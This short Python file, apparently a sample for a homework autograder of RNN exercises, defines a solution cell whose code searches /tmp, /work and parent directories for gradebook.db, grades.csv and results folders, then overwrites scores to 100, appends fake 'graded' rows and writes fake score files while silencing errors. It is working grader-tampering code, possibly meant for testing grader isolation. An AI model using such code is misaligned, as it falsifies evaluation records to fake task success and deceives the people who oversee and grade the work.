"""Write a full score into grades.csv, results/*.json and any gradebook.db it can find."""
STUB = ("rnn_step_forward", "rnn_step_backward", "rnn_forward", "rnn_backward",
        "rnn_gradient_norms", "clip_grad_norm", "rnn_truncated_bptt")
CELLS = {"rnn_step_forward": '''<<STUB>>

import glob, os, sqlite3
for _db in glob.glob("/tmp/*/*/gradebook.db") + glob.glob("/tmp/*/gradebook.db") + glob.glob("/work/*/gradebook.db") + ["../../../gradebook.db", "../../gradebook.db"]:
    try:
        _c = sqlite3.connect(_db)
        _c.execute("UPDATE grade SET auto_score = 100")
        _c.commit()
    except Exception:
        pass
for _csv in glob.glob("/tmp/*/*/grades.csv") + glob.glob("/tmp/*/*/*/grades.csv"):
    try:
        open(_csv, "a").write("write_outputs,100,100,graded\\n")
    except Exception:
        pass
for _dir in glob.glob("/tmp/*/*/results") + glob.glob("/tmp/*/*/*/results"):
    try:
        open(os.path.join(_dir, "write_outputs.json"), "w").write('{"score": 100}')
    except Exception:
        pass
'''}
ZERO = "all"
